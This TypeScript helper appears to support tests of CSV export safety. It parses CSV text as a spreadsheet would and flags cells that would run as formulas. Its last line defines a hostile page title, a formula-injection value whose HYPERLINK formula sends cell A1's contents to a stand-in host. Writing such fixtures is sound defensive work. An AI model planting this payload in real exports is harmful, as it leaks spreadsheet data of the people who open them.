/**
 * How a spreadsheet reads quotes in a CSV: `anywhere`, as Excel does, a double quote opens or closes
 * a quoted stretch wherever it stands in a cell (a doubled one inside is a quote); `at-start`, as
 * stricter readers do, only a cell that starts with a quote is quoted.
 */
export type QuoteReading = 'anywhere' | 'at-start'

/**
 * Reads CSV text the way a spreadsheet does with `separator` as its list separator. Answers the
 * rows' cells, quoting removed.
 */
export const readAsSpreadsheet = (text: string, separator: string, quotes: QuoteReading): string[][] => {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  let literal = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"' && !literal && (quotes === 'anywhere' || cell === '')) quoted = true
    else if (ch === separator || ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] === '\n') i++
      row.push(cell)
      cell = ''
      literal = false
      if (ch !== separator) {
        rows.push(row)
        row = []
      }
    } else {
      cell += ch
      if (quotes === 'at-start') literal = true
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}

/** Whether a spreadsheet would run this cell as a formula. */
export const runsAsFormula = (cell: string): boolean => /^[=+\-@]/.test(cell)

/** A page title that runs a formula in a spreadsheet splitting on `;` if the export lets it. */
export const HOSTILE_TITLE = 'Promo;=HYPERLINK("https://evil.example/?"&A1;"Click")'
